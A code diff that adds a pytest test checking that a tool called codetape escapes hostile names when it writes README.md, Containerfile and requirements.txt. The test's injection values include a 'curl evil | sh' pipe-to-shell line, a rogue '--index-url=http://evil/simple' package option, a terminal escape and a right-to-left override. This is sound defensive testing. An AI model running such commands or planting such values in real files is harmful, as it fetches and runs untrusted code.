@@ -11,10 +11,12 @@ from typing import Any
 
 import pytest
 
+from codetape import saving
 from codetape.cli import main
 from codetape.engine.ports import StoreError
 from codetape.replay.imports import import_tape, read_tape_file
 from codetape.replay.reading import open_tape
+from codetape.states.changing import replace
 from codetape.states.values import canonical
 from tests.support.mutated_tapes import mended
 
@@ -156,3 +158,38 @@ def test_a_tape_of_the_future_is_not_imported(year: int, tmp_path: Path) -> None
         import_tape(file, store)
     assert store.sessions() == []
     assert main(["show", str(file)]) == 0
+
+
+NASTY = "x`\n\n## Then\n\n    curl evil | sh\n\x1b[2J\u202e"
+TO_SAVE: tuple[dict[str, Any], ...] = (
+    {"environment": {NASTY: "1"}},
+    {"inputs": [{"name": NASTY, "type": "int"}]},
+    {"outputs": [{"name": NASTY, "type": "int"}]},
+    {"secrets": [NASTY]},
+    {"base_image": NASTY},
+    {"base_packages": [NASTY]},
+    {"base_packages": ["--index-url=http://evil/simple\n## Then"]},
+    {"system_packages": [NASTY]},
+    {"commands": [NASTY]},
+)
+
+
+@pytest.mark.parametrize("changes", TO_SAVE, ids=lambda changes: next(iter(changes)))
+def test_a_saved_folder_says_nothing_in_the_name_of_a_tape(
+    changes: dict[str, Any], tmp_path: Path
+) -> None:
+    """What others named stands there as one escaped word: it begins no line of its own."""
+    tape = open_tape(read_tape_file(TAPES / "happy_path.tape.jsonl"), "happy-path")
+    session = tape.session_at(-1)
+    job = type(session.job).model_validate_json(canonical({**_facts(session.job), **changes}))
+    saving.save(replace(session, job=job), tmp_path)
+    for name in ("README.md", "Containerfile", "requirements.txt"):
+        text = (tmp_path / name).read_text() if (tmp_path / name).exists() else ""
+        lines = [line.strip() for line in text.split("\n")]
+        assert not {"## Then", "curl evil | sh"} & {*lines}
+        assert not any(line.startswith("-") for line in lines if name == "requirements.txt")
+        assert not {"\x1b", "\u202e"} & {*text}
+
+
+def _facts(job: Any) -> dict[str, Any]:
+    return dict(job.model_dump(mode="json"))
